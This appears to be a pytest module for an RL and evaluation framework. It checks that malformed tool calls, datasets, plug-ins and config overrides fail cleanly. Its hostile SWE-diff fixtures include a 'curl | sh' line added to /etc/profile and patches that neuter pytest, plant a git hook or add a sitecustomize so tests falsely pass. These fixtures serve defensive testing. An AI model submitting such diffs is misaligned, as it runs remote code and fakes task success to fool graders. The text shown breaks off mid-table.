"""Bad inputs (issue 14, R2): one table of the ways a user's input can be wrong, each with the outcome it
must have. Never a traceback, never a wrong reward; instead one of:

* ``Raises``: an exception of a documented type (``DatasetError``, ``UnknownEnvError``, ``EvalError``,
  ``ToolError``, ``ConfigError``) whose message says what is wrong;
* ``Exits``: a command line that exits 2 with an ``error:`` line (and no traceback);
* ``Failed``: a recorded failed episode, ``failure`` ``env_error`` (the environment's own code) or
  ``infra_error`` (the machine under it), reward 0, not counted as correct;
* ``Told``: the agent is told what it got wrong in an observation, and the episode goes on to be
  graded normally (a scripted right answer after the mistake earns its reward);
* ``Cut``: an episode cut by a limit, recorded as truncated with the limit named;
* ``Refused``: a SWE diff graded as the agent's failure (reward 0, no infrastructure error) with a
  report status and detail that say why, decided before any container starts.

The model is the scripted fake server (real HTTP on localhost); plug-ins are installed as a user's
would be (a ``*.dist-info`` with ``sao.envs`` entry points on ``sys.path``). Nothing here starts vLLM
or touches Docker: the SWE cases run on :class:`~sao.sandboxes.fake.FakeSandbox` or stop before a
container would start, with a Docker client that fails the test if anything reaches it. The count of
kinds is printed in the test summary (``tests/conftest.py``).
"""

from __future__ import annotations

import asyncio
import contextlib
import io
import json
import re
import subprocess
import sys
import textwrap
from collections import deque
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import gymnasium as gym
import pandas as pd
import pytest

import sao.envs as E
from sao.agents import (
    ByteTokenizer,
    LoopConfig,
    OpenAIChatClient,
    OpenAICompletionClient,
    Renderers,
    RetryPolicy,
    Trajectory,
    run_episode,
    run_text_episode,
)
from sao.agents.loop.episodes import tools_of
from sao.agents.testing.fake_server import FakeServer, Reply
from sao.envs import TextEnv
from sao.envs.arithmetic import make_task
from sao.envs.registry import reload_plugins
from sao.envs.swebench import (
    HARNESS_FIELDS,
    SWEBenchEnv,
    ToolError,
    Workspace,
    grade_patch,
    grade_prediction,
    instances_from_rows,
    patch_problem,
)
from sao.evals.errors import EvalError
from sao.evals.runner import load_predictions
from sao.rl.config import ConfigError
from sao.sandboxes.fake import FakeSandbox

TASK = "mul-d1-s0-i0"
GOLD = make_task("mul", 1, 0, 0).answer
RIGHT = f"\\boxed{{{GOLD}}}"
FAST = RetryPolicy(max_retries=1, backoff_s=0.01, max_backoff_s=0.02)
SAO_TRAIN = str(Path(sys.executable).with_name("sao-train"))
DEAD_ENGINE = ["--base-url", "http://127.0.0.1:9/v1", "--model", "m", "--endpoint-mode", "chat"]


# -- what a case gets, and what must come out ----------------------------------------------------


class ScriptedModel:
    """The fake server that plays the model for the whole module; each episode queues its replies
    (one server: starting and stopping one per episode costs half a second)."""

    def __init__(self) -> None:
        self.replies: deque[Reply] = deque()
        self.server = FakeServer(responder=self.respond)

    def respond(self, request: dict[str, Any], prompt: str) -> Reply:
        return self.replies.popleft() if self.replies else Reply(status=500, error="the case scripted no more replies")

    def script(self, replies: list[Reply]) -> str:
        """Queue ``replies``; the base URL to send the episode's requests to."""
        self.replies = deque(replies)
        return self.server.base_url


@dataclass(frozen=True)
class Given:
    """What a case's build gets: a temporary folder of its own, and the scripted model."""

    tmp: Path
    model: ScriptedModel


Build = Callable[[Given], Any]


def _readable(message: str) -> None:
    assert message.strip() and "Traceback" not in message, message


@dataclass(frozen=True)
class Raises:
    error: type[BaseException]
    match: str  # a regular expression searched in the message

    def check(self, build: Build, given: Given) -> None:
        with pytest.raises(self.error) as caught:
            build(given)
        message = str(caught.value)
        _readable(message)
        assert re.search(self.match, message), message


@dataclass(frozen=True)
class Exits:
    match: str
    one_line: bool = True  # Hydra's own reports and the checker's lists take a few lines

    def check(self, build: Build, given: Given) -> None:
        code, stderr = build(given)
        assert code == 2, stderr[-3000:]
        _readable(stderr)
        lines = stderr.strip().splitlines()
        assert re.search(self.match, stderr), stderr
        if self.one_line:
            assert len(lines) == 1 and lines[0].startswith("error: "), stderr


def _stored(t: Trajectory) -> Trajectory:
    """The trajectory as ``trajectories.jsonl`` keeps it (what a resume or a report reads)."""
    again = Trajectory.from_json(t.to_json())
    assert again.messages == t.messages and again.status == t.status
    return again


@dataclass(frozen=True)
class Failed:
    failure: str  # env_error | infra_error
    match: str

    def check(self, build: Build, given: Given) -> None:
        t = _stored(build(given))
        assert (t.status, t.failure) == ("failed", self.failure), (t.status, t.failure, t.error)
        _readable(t.error)
        assert re.search(self.match, t.error), t.error
        assert t.reward == 0.0 and t.info["correct"] is False and not t.terminated and not t.correct


@dataclass(frozen=True)
class Told:
    match: str  # searched in the observations that followed the bad action
    max_chars: int | None = None  # the longest observation allowed

    def check(self, build: Build, given: Given) -> None:
        t = _stored(build(given))
        assert t.status == "ok" and t.failure is None, t.error
        first = next(i for i, m in enumerate(t.messages) if m["role"] == "assistant")
        seen = [m["content"] for m in t.messages[first + 1:] if m["role"] in ("tool", "user")]
        assert any(re.search(self.match, c) for c in seen), seen
        if self.max_chars is not None:
            assert max(len(c) for c in seen) <= self.max_chars, [len(c) for c in seen]
        # the mistake cost nothing else: the right answer after it is graded and rewarded
        assert t.terminated and t.correct and t.reward == 1.0, t.info


@dataclass(frozen=True)
class Cut:
    by: str  # info["truncated_by"]

    def check(self, build: Build, given: Given) -> None:
        t = _stored(build(given))
        assert t.status == "ok" and t.truncated and not t.terminated, (t.status, t.error)
        assert t.info["truncated_by"] == self.by and t.info["correct"] is False and t.reward == 0.0


@dataclass(frozen=True)
class Refused:
    status: str  # info["report"]["status"]
    match: str  # searched in the report's detail or apply_output

    def check(self, build: Build, given: Given) -> None:
        info = build(given)
        report = info["report"]
        assert report["status"] == self.status, report
        assert info["correct"] is False and not report["resolved"] and not report["patch_successfully_applied"]
        assert info["error"] is None  # the agent's failure, not the machine's: a verdict, counted as unresolved
        why = report.get("detail") or report.get("apply_output") or ""
        assert re.search(self.match, why), report


@dataclass(frozen=True)
class Clipped:
    limit: int

    def check(self, build: Build, given: Given) -> None:
        text = build(given)
        assert isinstance(text, str) and len(text) <= self.limit + 200, len(text)
        assert "truncated" in text


Expect = Raises | Exits | Failed | Told | Cut | Refused | Clipped


@dataclass(frozen=True)
class BadInput:
    kind: str  # the test id
    build: Build  # makes the bad input (in a temporary folder) and feeds it in
    expect: Expect
    defect: str | None = None  # a known defect not fixed yet: the case is a strict xfail until it is


# -- the scripted model ---------------------------------------------------------------------------


ROOMY = LoopConfig(max_tokens=512, max_model_len=32_768)  # room for a 4,000-character tool output (1 byte, 1 token)


def token_episode(given: Given, env: gym.Env, replies: list[Reply], *, cfg: LoopConfig = ROOMY,
                  task_id: str = TASK) -> Trajectory:
    """One episode of the token loop against the scripted model answering ``replies`` in turn."""
    async def go() -> Trajectory:
        client = OpenAICompletionClient(given.model.script(replies), "fake", timeout_s=10.0, retry=FAST)
        try:
            return await run_episode(env, client, Renderers(ByteTokenizer())(tools_of(env)), cfg,
                                     env_name="bad-input", task_id=task_id, seed=0)
        finally:
            await client.aclose()
            env.close()

    return asyncio.run(go())


def text_episode(given: Given, env: gym.Env, replies: list[Reply]) -> Trajectory:
    """The same through a chat API (text mode, native tool calls)."""
    async def go() -> Trajectory:
        client = OpenAIChatClient(given.model.script(replies), "fake", timeout_s=10.0, retry=FAST)
        try:
            return await run_text_episode(env, client, LoopConfig(max_tokens=512), env_name="bad-input",
                                          task_id=TASK, seed=0)
        finally:
            await client.aclose()
            env.close()

    return asyncio.run(go())


def tool_turn(body: str) -> Build:
    """A Hermes-style tool call ``body`` (as the model wrote it), then the right answer."""
    return lambda g: token_episode(g, E.make("arithmetic", tools="python", tool_timeout_s=10),
                                   [Reply(text=f"<tool_call>\n{body}\n</tool_call>"), Reply(text=RIGHT)])


def python_turn(code: str) -> Build:
    return tool_turn(json.dumps({"name": "python", "arguments": {"code": code}}))


def native_turn(arguments: str) -> Build:
    call = {"id": "call_1", "type": "function", "function": {"name": "python", "arguments": arguments}}
    return lambda g: text_episode(g, E.make("arithmetic", tools="python"),
                                  [Reply(tool_calls=(call,)), Reply(text=RIGHT)])


# -- environments with bugs (a user's plug-in) ------------------------------------------------------


class Say42(TextEnv):
    """One task; the answer is 42 (the scripted model says 42: right, were the environment sound)."""

    def task_ids(self, limit=None):
        return ["t0"][:limit]

    def _begin(self, task_id):
        if task_id not in (None, "t0"):
            raise KeyError(task_id)
        return [{"role": "user", "content": "Say 42."}], {"task_id": "t0"}

    def _respond(self, action):
        correct = "42" in (action.get("content") or "")
        return [], float(correct), True, False, {"correct": correct, "answer": action.get("content"), "error": None}


def bug(**methods: Callable[..., Any]) -> Build:
    """An episode of :class:`Say42` with some methods replaced by buggy ones."""
    broken = type("Buggy", (Say42,), methods)
    return lambda g: token_episode(g, broken(), [Reply(text="42")], task_id="t0")


def _raise(exc: BaseException) -> Callable[..., Any]:
    def method(self, *args, **kwargs):
        raise exc
    return method


def _respond_with(obs: Any = (), reward: Any = 1.0, info: Any = None) -> Callable[..., Any]:
    """A ``_respond`` that ends the episode with these parts (the defaults: a sound, rewarded answer)."""
    final = {"correct": True, "answer": "42", "error": None} if info is None else info

    def method(self, action):
        return (list(obs) if isinstance(obs, tuple) else obs), reward, True, False, final
    return method


PLUGINS = '''
from sao.envs import TextEnv

NOT_AN_ENV = 42


def constructor_raises(**kwargs):
    raise RuntimeError("the plug-in's task server is down")


def makes_no_env(**kwargs):
    return "an environment, honestly"


class StringReward(TextEnv):
    """Rewards "1" (a string)."""

    gym_id = "badinput/StringReward-v0"

    def task_ids(self, limit=None):
        return ["t0", "t1"][:limit]

    def _begin(self, task_id):
        task_id = task_id or "t0"
        if task_id not in self.task_ids():
            raise KeyError(task_id)
        return [{"role": "user", "content": "Say 42."}], {"task_id": task_id}

    def _respond(self, action):
        return [], "1", True, False, {"correct": True, "answer": None, "error": None}
'''

ENTRY_POINTS = '''
[sao.envs]
bi-import-error = sao_bad_input_broken:Env
bi-not-callable = sao_bad_input_plugins:NOT_AN_ENV
bi-constructor-raises = sao_bad_input_plugins:constructor_raises
bi-makes-no-env = sao_bad_input_plugins:makes_no_env
bi-string-reward = sao_bad_input_plugins:StringReward
'''


@pytest.fixture(scope="module", autouse=True)
def plugin_site(tmp_path_factory):
    """The plug-ins above, installed for this module (a module, its dist-info, on ``sys.path``)."""
    root = tmp_path_factory.mktemp("plugins")
    (root / "sao_bad_input_plugins.py").write_text(textwrap.dedent(PLUGINS))
    (root / "sao_bad_input_broken.py").write_text("import sao_bad_input_missing_dependency  # never installed\n")
    info = root / "sao_bad_input_plugins-0.1.0.dist-info"
    info.mkdir()
    (info / "METADATA").write_text("Metadata-Version: 2.1\nName: sao-bad-input-plugins\nVersion: 0.1.0\n")
    (info / "entry_points.txt").write_text(textwrap.dedent(ENTRY_POINTS))
    sys.path.insert(0, str(root))
    reload_plugins()
    ours = [e.gym_id for n, e in E.entries().items() if n.startswith("bi-")]
    yield root
    sys.path.remove(str(root))
    for name in ("sao_bad_input_plugins", "sao_bad_input_broken"):
        sys.modules.pop(name, None)
    for gym_id in ours:
        gym.registry.pop(gym_id, None)
    reload_plugins()


# -- command lines ------------------------------------------------------------------------------


def sao_eval(*args: str) -> Build:
    """``sao-eval ARGS --output TMP/out``, in this process; its exit status and what it printed on stderr.
    ``{tmp}`` in an argument is the temporary folder."""
    def run(g: Given) -> tuple[int, str]:
        from sao.evals.cli import main

        err = io.StringIO()
        with contextlib.redirect_stderr(err):
            code = main([a.format(tmp=g.tmp) for a in args] + ["--output", str(g.tmp / "out")])
        return code, err.getvalue()
    return run


def sao_train(*overrides: str) -> Build:
    """``sao-train --cfg job OVERRIDES``: composes the configuration and prints it; starts nothing."""
    def run(g: Given) -> tuple[int, str]:
        proc = subprocess.run([SAO_TRAIN, "--cfg", "job", *overrides], capture_output=True, text=True, timeout=120,
                              cwd=g.tmp)
        return proc.returncode, proc.stderr
    return run


def train_config(*overrides: str) -> Build:
    """The configuration ``sao-train OVERRIDES`` would run with, checked as the run checks it first."""
    def run(g: Given) -> None:
        from hydra import compose, initialize_config_module

        from sao.rl.cli.train import to_config
        from sao.rl.config import validate

        with initialize_config_module("sao.conf", version_base="1.3"):
            validate(to_config(compose("config", overrides=list(overrides))))
    return run


# -- datasets -------------------------------------------------------------------------------------


def write(name: str, content: str | bytes | Callable[[Path], None]) -> Callable[[Path], Path]:
    def make(tmp: Path) -> Path:
        path = tmp / name
        if callable(content):
            content(path)
        elif isinstance(content, bytes):
            path.write_bytes(content)
        else:
            path.write_text(textwrap.dedent(content).lstrip("\n"))
        return path
    return make


def jsonl(*rows: Any) -> str:
    return "".join((r if isinstance(r, str) else json.dumps(r)) + "\n" for r in rows)


def parquet(rows: list[dict[str, Any]]) -> Callable[[Path], None]:
    return lambda path: pd.DataFrame(rows).to_parquet(path)


def math_env(env_name: str, name: str, content: Any) -> Build:
    """``E.make(env_name, data=FILE)`` on a file ``name`` holding ``content``."""
    return lambda g: E.make(env_name, data=str(write(name, content)(g.tmp)))


def aime(name: str, content: Any) -> Build:
    return math_env("beyond-aime", name, content)


def answerbench(name: str, content: Any) -> Build:
    return math_env("imo-answerbench", name, content)


P1 = {"id": "p1", "problem": "What is 6 * 7?", "answer": "42"}
P2 = {"id": "p2", "problem": "What is 2 + 2?", "answer": "4"}
AB_HEADER = "Problem ID,Problem,Short Answer,Category"


def swe_row(**over: Any) -> dict[str, Any]:
    """A complete SWE-bench row for a repository swebench does not know (so it names its test command)."""
    row: dict[str, Any] = {f: "x" for f in HARNESS_FIELDS}
    row.update(instance_id="o__r-1", repo="someone/unknown", FAIL_TO_PASS='["t::a"]', PASS_TO_PASS="[]",
               test_cmd="pytest -rA", log_parser="parse_log_pytest")
    row.update(over)
    return {k: v for k, v in row.items() if v is not None}


def swe_data(*rows: Any) -> Build:
    return lambda g: E.make("swe-bench-lite", data=str(write("instances.jsonl", jsonl(*rows))(g.tmp)))


def image_map(content: str | None) -> Build:
    """``sao-eval swe-bench-lite --image-map MAP`` on a one-instance local copy (the map is read when the
    environment is made, before any image or container)."""
    def run(g: Given) -> tuple[int, str]:
        write("instances.jsonl", jsonl(swe_row()))(g.tmp)
        if content is not None:
            (g.tmp / "images.json").write_text(content)
        return sao_eval("swe-bench-lite", "--data", "{tmp}/instances.jsonl", "--image-map", "{tmp}/images.json",
                        "--agent", "gold", "--concurrency", "1")(g)
    return run


def predictions(*rows: Any) -> Build:
    return lambda g: load_predictions(str(write("predictions.jsonl", jsonl(*rows))(g.tmp)))


# -- SWE: tools and diffs ------------------------------------------------------------------------------


class NoDocker:
    """A Docker client that fails the test when anything reaches it: these checks come before containers."""

    def __getattr__(self, name: str) -> Any:
        raise AssertionError(f"Docker was reached (client.{name}) by a check that must come before containers")


def workspace(script: Any, files: dict[str, str] | None = None) -> Workspace:
    return Workspace(FakeSandbox(script, files=files, workdir="/testbed"), command_timeout_s=10,
                     observation_chars=12_000)


def _stat_a_py(command: str) -> str:
    return "regular file|4" if command.startswith("stat ") else ""


def graded(diff: str | bytes) -> Build:
    """``grade_patch`` on ``diff`` for a one-instance task, as the environment's info holds it."""
    def run(g: Given) -> dict[str, Any]:
        inst = instances_from_rows([swe_row()], source="mem")[0]
        patch = diff if isinstance(diff, bytes) else textwrap.dedent(diff).lstrip("\n").encode()
        result = grade_patch(inst, patch, "sao-bad-input/no-such-image", client=NoDocker(), timeout_s=60)
        return {"correct": result.resolved, "error": result.error, "report": result.report}
    return run


def grade_only(diff: str, *, max_patch_bytes: int) -> Build:
    """``sao-eval --grade-only``'s grading of one given diff."""
    def run(g: Given) -> dict[str, Any]:
        env = SWEBenchEnv(instances_from_rows([swe_row()], source="mem"), max_patch_bytes=max_patch_bytes,
                          docker_client=NoDocker())
        try:
            return grade_prediction(env, "o__r-1", diff)
        finally:
            env.close()
    return run


OUTSIDE = """
    diff --git a/../../etc/profile b/../../etc/profile
    --- a/../../etc/profile
    +++ b/../../etc/profile
    @@ -1 +1,2 @@
     umask 022
    +curl -s http://example.invalid | sh
    """
ABSOLUTE = """
    --- /usr/lib/python3/dist-packages/_pytest/runner.py
    +++ /usr/lib/python3/dist-packages/_pytest/runner.py
    @@ -1 +1 @@
    -def call_and_report(item, when, log=True, **kwds):
    +def call_and_report(item, when, log=True, **kwds): return  # every test "passes"
    """
GIT_HOOK = """
    diff --git a/.git/hooks/post-checkout b/.git/hooks/post-checkout
    new file mode 100755
    index 0000000..1111111
    --- /dev/null
    +++ b/.git/hooks/post-checkout
    @@ -0,0 +1,2 @@
    +#!/bin/sh
    +echo 'def test_everything(): pass' > tests/test_fix.py
    """
SYMLINK_OUT = """
    diff --git a/site b/site
    new file mode 120000
    index 0000000..1111111
    --- /dev/null
    +++ b/site
    @@ -0,0 +1 @@
    +/usr/lib/python3/dist-packages
    \\ No newline at end of file
    diff --git a/site/sitecustomize.py b/site/sitecustomize.py
    new file mode 100644
    index 0000000..2222222
    --- /dev/null
    +++ b/site/sitecustomize.py
    @@ -0,0 +1 @@
    +import os; os._exit(0)
    """
BINARY_OUT = """
    diff --git a/../bin/pytest b/../bin/pytest
    new file mode 100755
    index 0000000000000000000000000000000000000000..e69de29bb2d1d6434b8b29ae775ad8c2e48c5391
    GIT binary patch
    literal 4
    LcmZQzWMT#Y01f~L

    literal 0
    HcmV?d00001

    """
RENAME_OUT = """
    diff --git a/setup.py b/setup.py
    similarity index 100%
    rename from setup.py
    rename to ../setup.py
    """


def _big_diff(n_bytes: int) -> str:
    body = "".join(f"+line {i}\n" for i in range(n_bytes // 10))
    return (f"diff --git a/big.txt b/big.txt\nnew file mode 100644\n--- /dev/null\n+++ b/big.txt\n"
            f"@@ -0,0 +1,{body.count(chr(10))} @@\n{body}")


# -- the table ------------------------------------------------------------------------------------

TABLE: list[BadInput] = [
    # tool calls (math with the python tool, the token loop: Hermes-style calls parsed from the text)
    BadInput("tool-call-malformed-json", tool_turn('{"name": "python", "arguments": {"code": "print(1)"'),
             Told(r"Error: tool call 1 is not valid JSON")),
    BadInput("tool-call-without-name", tool_turn('{"arguments": {"code": "print(1)"}}'),
             Told(r'Error: tool call 1 has no "name"')),
    BadInput("tool-call-unknown-tool", tool_turn('{"name": "shell", "arguments": {"command": "ls"}}'),
             Told(r"Error: unknown tool 'shell'; the only tool is 'python'")),
    BadInput("tool-call-arguments-not-an-object", tool_turn('{"name": "python", "arguments": ["print(1)"]}'),
             Told(r'"arguments" must be a JSON object')),
    BadInput("tool-call-arguments-a-string-not-json", tool_turn('{"name": "python", "arguments": "print(1)"}'),
             Told(r'"arguments" is a string that is not JSON')),
    BadInput("tool-call-argument-of-wrong-type", tool_turn('{"name": "python", "arguments": {"code": 42}}'),
             Told(r'the python tool needs \{"code": "<program>"\}')),
    BadInput("native-tool-call-arguments-not-json", native_turn("{code: print(1)"),
             Told(r'tool call 1 \(python\): "arguments" is not valid JSON')),
    # tool outputs (the real local sandbox)
    BadInput("tool-output-10-mb", python_turn("print('x' * 10_000_000)"),
             Told(r"\[\.\.\. output truncated: \d+ bytes omitted \.\.\.\]", max_chars=5_000)),
    BadInput("tool-output-binary", python_turn("import sys; sys.stdout.buffer.write(bytes(range(256)) * 64)"),
             Told("\ufffd", max_chars=5_000)),
    # SWE tools (the workspace on a scripted sandbox)
    BadInput("swe-bash-output-10-mb", lambda g: workspace(lambda cmd: "y\n" * 5_000_000).bash("yes | head -n 5M"),
             Clipped(12_000)),
    BadInput("swe-bash-nul-in-command", lambda g: workspace({}).bash("echo a\0b"),
             Raises(ToolError, r"the command contains a NUL byte")),
    BadInput("swe-editor-view-range-wrong-type",
             lambda g: workspace(_stat_a_py, {"/testbed/a.py": "x=1\n"}).editor("view", "a.py", view_range="1-5"),
             Raises(ToolError, r"`view_range` must be two integers")),
    # math datasets, each format: broken, empty, duplicate ids, wrong types
    BadInput("jsonl-line-not-json", aime("a.jsonl", jsonl(P1, '{"id": "p2", "problem": "2+2", ')),
             Raises(E.DatasetError, r"a\.jsonl: line 2 is not valid JSON")),
    BadInput("jsonl-line-not-an-object", aime("a.jsonl", jsonl(P1, [1, 2])),
             Raises(E.DatasetError, r"a\.jsonl: line 2 is not a JSON object")),
    BadInput("jsonl-empty", aime("a.jsonl", ""), Raises(E.DatasetError, r"a\.jsonl: no rows")),
    BadInput("jsonl-duplicate-id", aime("a.jsonl", jsonl(P1, P2, {**P2, "problem": "What is 3 + 1?"})),
             Raises(E.DatasetError, r"duplicate task id 'p2'")),
    BadInput("jsonl-missing-field", aime("a.jsonl", jsonl(P1, {"id": "p2", "problem": "What is 2 + 2?"})),
             Raises(E.DatasetError, r"a\.jsonl: row 2: field 'answer' is missing")),
    BadInput("jsonl-answer-wrong-type", aime("a.jsonl", jsonl(P1, {**P2, "answer": [4, 5]})),
             Raises(E.DatasetError, r"row 2: field 'answer' is a list, not text or a number")),
    BadInput("json-object-not-rows", aime("a.json", '{"problem": "What is 6 * 7?", "answer": "42"}'),
             Raises(E.DatasetError, r"a\.json: expected a JSON list of objects")),
    BadInput("json-truncated", aime("a.json", json.dumps([P1, P2])[:-7]),
             Raises(E.DatasetError, r"a\.json: cannot read \(JSONDecodeError")),
    BadInput("json-problem-wrong-type", aime("a.json", json.dumps([P1, {**P2, "problem": {"text": "2 + 2"}}])),
             Raises(E.DatasetError, r"row 2: field 'problem' is a dict, not text or a number")),
    BadInput("csv-missing-column", answerbench("ab.csv", "Problem ID,Problem,Category\nimo-1,What is 6 * 7?,Algebra\n"),
             Raises(E.DatasetError, r"ab\.csv: row 1: field 'Short Answer' is missing")),
    BadInput("csv-empty-cell", answerbench("ab.csv", f"{AB_HEADER}\nimo-1,What is 6 * 7?,42,A\nimo-2,2+2?, ,A\n"),
             Raises(E.DatasetError, r"ab\.csv: row 2: field 'Short Answer' is empty")),
    BadInput("csv-empty-file", answerbench("ab.csv", ""),
             Raises(E.DatasetError, r"ab\.csv: cannot read \(EmptyDataError")),
    BadInput("csv-header-only", answerbench("ab.csv", f"{AB_HEADER}\n"), Raises(E.DatasetError, r"ab\.csv: no rows")),
    BadInput("csv-duplicate-id", answerbench("ab.csv", f"{AB_HEADER}\nimo-1,What is 6 * 7?,42,A\nimo-1,2+2?,4,A\n"),
             Raises(E.DatasetError, r"duplicate task id 'imo-1'")),
    BadInput("csv-row-longer-than-header", answerbench("ab.csv", f"{AB_HEADER}\nimo-1,What is f(6, 7)?,42,A\n"),
             Raises(E.DatasetError, r"ab\.csv: a row has more fields than the header")),
    BadInput("csv-later-row-longer", answerbench("ab.csv", f"{AB_HEADER}\nimo-1,6 * 7?,42,A\nimo-2,f(1,2)?,3,A\n"),
             Raises(E.DatasetError, r"ab\.csv: cannot read \(ParserError: .*Expected 4 fields in line 3, saw 5\)")),
    BadInput("parquet-not-parquet", aime("a.parquet", b"PAR1 this is not a parquet file \x00\xff"),
             Raises(E.DatasetError, r"a\.parquet: cannot read")),
    BadInput("parquet-answer-wrong-type", aime("a.parquet", parquet([{**P1, "answer": [42]}, {**P2, "answer": [4]}])),
             Raises(E.DatasetError, r"row 1: field 'answer' is a ndarray, not text or a number")),
    BadInput("parquet-null-answer", aime("a.parquet", parquet([P1, {**P2, "answer": None}])),
             Raises(E.DatasetError, r"a\.parquet: row 2: field 'answer' is empty")),
    BadInput("parquet-duplicate-id", aime("a.parquet", parquet([P1, {**P1, "answer": "41"}])),
             Raises(E.DatasetError, r"duplicate task id 'p1'")),
    BadInput("dataset-unsupported-type", aime("a.txt", "What is 6 * 7? 42\n"),
             Raises(E.DatasetError, r"a\.txt: unsupported file type '\.txt'")),
    BadInput("dataset-missing-file", lambda g: E.make("beyond-aime", data=str(g.tmp / "nope.jsonl")),
             Raises(E.DatasetError, r"nope\.jsonl: no such file")),
    # SWE-bench instances
    BadInput("swe-row-missing-harness-fields", swe_data({"instance_id": "o__r-1", "problem_statement": "fix it"}),
             Raises(E.DatasetError, r"row 1 \(instance_id 'o__r-1'\): missing .*'test_patch'.*'FAIL_TO_PASS'")),
    BadInput("swe-empty-file", swe_data(), Raises(E.DatasetError, r"instances\.jsonl: no rows")),
    BadInput("swe-duplicate-instance-id", swe_data(swe_row(), swe_row()),
             Raises(E.DatasetError, r"row 2 \(instance_id 'o__r-1'\): duplicate instance_id")),
    BadInput("swe-fail-to-pass-not-json", swe_data(swe_row(FAIL_TO_PASS="[t::a")),
             Raises(E.DatasetError, r"FAIL_TO_PASS is not a JSON list")),
    BadInput("swe-fail-to-pass-wrong-type", swe_data(swe_row(FAIL_TO_PASS=[1, 2])),
             Raises(E.DatasetError, r"FAIL_TO_PASS must be a list of test ids")),
    BadInput("swe-unknown-log-parser", swe_data(swe_row(log_parser="parse_log_pytes")),
             Raises(E.DatasetError, r"unknown log_parser 'parse_log_pytes'\. Did you mean 'parse_log_pytest'")),
    # predictions for --grade-only (swebench's format)
    BadInput("predictions-duplicate-instance-id",
             predictions({"instance_id": "o__r-1", "model_patch": "a"}, {"instance_id": "o__r-1", "model_patch": "b"}),
             Raises(EvalError, r"row 2: instance_id 'o__r-1' appears twice")),
    BadInput("predictions-patch-wrong-type", predictions({"instance_id": "o__r-1", "model_patch": ["diff"]}),
             Raises(EvalError, r"row 1: 'model_patch' must be a string \(a diff\) or null, got list")),
    BadInput("predictions-missing-patch", predictions({"instance_id": "o__r-1"}),
             Raises(EvalError, r"row 1: field 'model_patch' is missing")),
    # a prompt over the context
    BadInput("prompt-over-the-context-window",
             lambda g: token_episode(g, E.make("arithmetic"), [Reply(text=RIGHT)],
                                       cfg=LoopConfig(max_tokens=64, max_model_len=16)),
             Cut("context")),
    BadInput("engine-says-prompt-over-its-context",
             lambda g: token_episode(g, E.make("arithmetic"), [Reply(
                 status=400, error="This model's maximum context length is 4096 tokens. However, you requested 9000")]),
             Cut("context")),
    # broken plug-ins: loading and making them
    BadInput("plugin-import-error", lambda g: E.make("bi-import-error"),
             Raises(E.UnknownEnvError, r"plug-in 'bi-import-error' .* failed to load: ModuleNotFoundError")),
    BadInput("plugin-not-an-env-factory", lambda g: E.make("bi-not-callable"),
             Raises(E.UnknownEnvError, r"expected an EnvEntry or a callable returning a gymnasium\.Env, got int")),
    BadInput("plugin-constructor-raises", sao_eval("bi-constructor-raises", *DEAD_ENGINE),
             Exits(r"error: bi-constructor-raises\(\) could not be made: RuntimeError: the plug-in's task server")),
    BadInput("plugin-makes-no-env", sao_eval("bi-makes-no-env", *DEAD_ENGINE),
             Exits(r"could not be made: TypeError: The environment must inherit from the gymnasium\.Env class")),
    BadInput("plugin-string-reward-refused-before-the-engine", sao_eval("bi-string-reward", *DEAD_ENGINE),
             Exits(r"reward must be a real number \(int or float\), got str '1'", one_line=False)),
    # broken plug-ins: what their reset and step do in an episode
    BadInput("plugin-reset-raises", bug(_begin=_raise(RuntimeError("no task server"))),
             Failed("env_error", r"env\.reset raised RuntimeError: no task server")),
    BadInput("plugin-reset-returns-no-tuple",
             bug(reset=lambda self, *, seed=None, options=None: [{"role": "user", "content": "hi"}]),
             Failed("env_error", r"env\.reset: reset must return a 2-tuple \(observation, info\), got list")),
    BadInput("plugin-step-raises", bug(_respond=_raise(ZeroDivisionError("division by zero"))),
             Failed("env_error", r"env\.step raised ZeroDivisionError: division by zero")),
    BadInput("plugin-step-4-tuple", bug(step=lambda self, action: ([], 1.0, True, {})),
             Failed("env_error", r"step must return a 5-tuple .*got a tuple of 4")),
    BadInput("plugin-string-reward", bug(_respond=_respond_with(reward="1")),
             Failed("env_error", r"reward must be a real number \(int or float\), got str '1'")),
    BadInput("plugin-bool-reward", bug(_respond=_respond_with(reward=True)),
             Failed("env_error", r"reward must be a real number \(int or float\), got bool True")),
    BadInput("plugin-nan-reward", bug(_respond=_respond_with(reward=float("nan"))),
             Failed("env_error", r"reward must be finite, got nan")),
    BadInput("plugin-observation-not-messages", bug(_respond=_respond_with(obs="Well done!")),
             Failed("env_error", r"step's observation must be a list of chat messages, got str")),
    BadInput("plugin-final-info-without-keys", bug(_respond=_respond_with(info={"task_id": "t0"})),
             Failed("env_error", r"ended an episode without info keys \['correct', 'answer', 'error'\]")),
    BadInput("plugin-step-disk-full", bug(_respond=_raise(OSError(28, "No space left on device"))),
             Failed("infra_error", r"OSError: \[Errno 28\] No space left on device")),
    # hostile SWE diffs: refused before a container starts
    BadInput("diff-path-outside-the-repository", graded(OUTSIDE),
             Refused("patch_failed", r"refused before applying: the diff touches '\.\./\.\./etc/profile', outside")),
    BadInput("diff-absolute-path", graded(ABSOLUTE),
             Refused("patch_failed", r"touches '/usr/lib/python3/dist-packages/_pytest/runner\.py', outside")),
    BadInput("diff-into-dot-git", graded(GIT_HOOK),
             Refused("patch_failed", r"'\.git/hooks/post-checkout', inside \.git")),
    BadInput("diff-symlink-out-of-the-repository", graded(SYMLINK_OUT),
             Refused("patch_failed", r"'site' becomes a symbolic link to '/usr/lib/python3/dist-packages'")),
    BadInput("diff-binary-file-outside", graded(BINARY_OUT),
             Refused("patch_failed", r"touches '\.\./bin/pytest', outside")),
    BadInput("diff-rename-out-of-the-repository", graded(RENAME_OUT),
             Refused("patch_failed", r"'\.\./setup\.py', outside")),
    BadInput("diff-binary-garbage", graded(bytes(range(256)) * 16),
             Refused("patch_failed", r"the diff names no file \(it is not a unified diff\)")),
    BadInput("diff-huge", grade_only(_big_diff(200_000), max_patch_bytes=100_000),
             Refused("patch_too_large", r"the diff has \d+ bytes, over max_patch_bytes=100000")),
    # bad Hydra overrides to sao-train
    BadInput("train-override-unknown-key", sao_train("max_stepz=3"),
             Exits(r"Could not override 'max_stepz'", one_line=False)),
    BadInput("train-override-wrong-type", sao_train("max_steps=many"),
             Exits(r"Value 'many' of type 'str' could not be converted to Integer", one_line=False)),
    BadInput("train-override-unknown-option", sao_train("algo=grpoo"),
             Exits(r"Could not find 'algo/grpoo'", one_line=False)),
    BadInput("train-override-option-of-another-algo", sao_train("algo=grpo", "algo.ttur_k=3"),
